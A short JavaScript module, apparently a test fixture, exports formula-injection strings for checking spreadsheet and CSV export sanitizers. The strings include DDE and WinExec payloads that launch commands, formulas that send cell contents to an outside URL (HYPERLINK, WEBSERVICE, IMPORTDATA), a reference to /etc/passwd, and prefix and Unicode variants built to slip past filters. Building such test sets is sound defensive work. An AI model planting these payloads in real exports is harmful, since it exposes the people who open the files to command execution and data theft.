/** What OWASP and the reports of spreadsheets' faults list: whatever runs, fetches or names something when it is taken for a formula. */
const PAYLOADS = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("http://example.org?x="&A1,"Click")',
  "cmd|' /C calc'!A0",
  "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
  'DDE("cmd";"/C calc";"x")',
  'IMPORTXML("http://example.org","//a")',
  'IMPORTDATA("http://example.org/"&A1)',
  'WEBSERVICE("http://example.org/"&A1)',
  'IMAGE("http://example.org/x.png")',
  'INDIRECT("A1")',
  'RTD("x",,"y")',
  'CALL("kernel32","WinExec","JCJ","calc",0)',
  "'file:///etc/passwd'#$A.A1",
  'A1',
];
const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '=-',
  '+=',
  '@@',
  '=@',
  '－',
  '＋',
  '＝',
  '＠',
  '﹦',
  '﹢',
  '−',
];
/** Signs that spreadsheets or importers skip before they look. */
const BEFORE = [
  '',
  ' ',
  '\u00a0',
  '\t',
  '\n',
  '\r\n',
  '\u200b',
  '\ufeff',
  '\u2060',
  '\u3000',
  "'",
  '"',
];

/** Cells that a spreadsheet runs, or tries to, when nobody keeps it from it. */
export const formulas = [
  ...PAYLOADS.flatMap((payload) => ['=', '+', '-', '@'].map((start) => start + payload)),
  ...STARTS.flatMap((start) => BEFORE.map((before) => `${before}${start}1+1`)),
  ...['=cmd|calc!A1\n=1+1', '\t=1+1\t', ';=1+1', ',=1+1', '"=1+1"', '=1+1;=2+2', '=1+1\t=2+2'],
  ...['%3D1+1', '0x3D1+1', '=\n1+1', "'=1+1", "''=1+1", "'''@x", "'- not a formula"],
];
